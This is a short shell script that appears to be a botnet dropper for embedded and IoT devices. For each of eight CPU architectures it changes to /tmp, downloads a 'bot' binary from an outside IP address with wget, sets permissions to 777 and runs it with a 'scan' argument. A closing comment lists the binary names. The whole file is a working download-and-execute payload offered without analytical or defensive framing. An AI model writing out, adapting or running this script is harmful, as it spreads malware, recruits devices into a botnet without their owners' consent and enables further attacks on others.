#!/bin/sh
for a in mips mpsl arm5 arm7 ppc m68k sh4 x86; do
  cd /tmp; wget http://203.0.113.66/bins/bot.$a; chmod 777 bot.$a; ./bot.$a scan
done
# explicit names: bot.mips bot.mpsl bot.arm7 bot.ppc bot.x86
